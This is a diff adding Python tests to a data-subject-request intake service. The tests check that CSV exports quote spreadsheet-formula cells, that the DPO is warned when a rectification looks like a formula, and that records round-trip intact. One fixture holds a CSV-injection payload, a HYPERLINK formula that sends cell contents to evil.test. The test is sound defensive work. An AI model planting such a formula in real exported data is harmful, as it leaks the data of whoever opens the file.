@@ -182,6 +182,65 @@ def test_rectification_proposes_what_the_request_states_differently(settings: Se
     assert draft.plan == {"changes": [{"field": "address", "old": "1 Old Street, Leeds", "new": "5 Moved Lane, Hull"}]}
 
 
+EVIL = '=HYPERLINK("http://evil.test/?x="&A1,"12 New Street"), London SW1A 1AA'
+
+
+def test_a_csv_cell_that_a_spreadsheet_would_run_is_quoted() -> None:
+    from intake.fulfil import exports
+
+    data = {"address": "=1+1", "name": "@SUM(A1)", "phone": "+44 20 7946 0958", "note": "-2+3", "city": "Leeds"}
+    header, row = csv.reader(io.StringIO(exports.as_csv(data).decode().lstrip("\ufeff")))
+    assert row == ["'=1+1", "'@SUM(A1)", "+44 20 7946 0958", "'-2+3", "Leeds"] and header == list(data)
+    assert [c for c in row if c.startswith(("=", "@", "-"))] == []  # a phone number runs nothing: it stays as it is
+
+
+def test_a_rectification_to_a_formula_is_shown_to_the_dpo_stored_as_written_and_quoted_in_every_csv(
+    settings: Settings, tmp_path: Path
+) -> None:
+    from starlette.testclient import TestClient
+
+    from intake.fulfil import exports
+    from intake.web.app import create_app
+    from intake.web.config import WebConfig
+
+    ref = _case(settings, JANE)
+    with db.session(settings.database_url) as s:
+        case = review.load(s, ref)
+        case.extraction = {**(case.extraction or {}), "address": EVIL, "phones": ["+44 20 7946 0000"]}
+        s.add(case)
+        for d in review.drafts(s, case):
+            d.status = "discarded"
+            s.add(d)
+        s.commit()
+        draft = review.reply(s, settings, ref, "rectification", "alice")
+        assert {c["field"]: c.get("formula", False) for c in draft.plan["changes"]} == {"phone": False, "address": True}  # type: ignore[index]
+        assert "formula_in_rectification" in review.load(s, ref).flags  # the phone's + is no formula
+    web = TestClient(create_app(settings, WebConfig(password="a long password")), base_url="http://127.0.0.1")
+    login = web.get("/login?again=1").text
+    csrf = re.search(r'name="csrf" value="([^"]+)"', login).group(1)  # type: ignore[union-attr]
+    web.post("/login", data={"name": "alice", "password": "a long password", "csrf": csrf, "next": "/"})
+    page = web.get(f"/cases/{ref}").text
+    assert "The new address begins like a spreadsheet formula" in page and "formula_in_rectification" in page
+    with db.session(settings.database_url) as s:
+        review.approve(s, settings, ref, "alice")
+        record = records.get(s, "S-JANE")
+        assert record is not None and record["address"] == EVIL  # the records hold what the DPO approved
+        out = io.StringIO()
+        records.export(s, out, "csv")
+    cells = dict(zip(*csv.reader(io.StringIO(out.getvalue())), strict=True))
+    assert cells["address"] == "'" + EVIL and cells["phone"] == "+44 20 7946 0000"
+    (mine,) = list(csv.reader(io.StringIO(exports.as_csv(exports.flat(record)).decode())))[1:]
+    assert "'" + EVIL in mine and EVIL not in mine  # the requester's personal-data.csv
+    again = tmp_path / "again.csv"
+    again.write_text(out.getvalue(), encoding="utf-8")
+    other = f"sqlite:///{tmp_path}/other.db"
+    db.upgrade(other)
+    with db.session(other) as s2:
+        assert records.import_file(s2, again).inserted == 1
+        back = records.get(s2, "S-JANE")
+    assert back is not None and back["address"] == EVIL and back["phone"] == "+44 20 7946 0000"  # read back as written
+
+
 OTHER = {**JANE, "role": "other"}
 
 
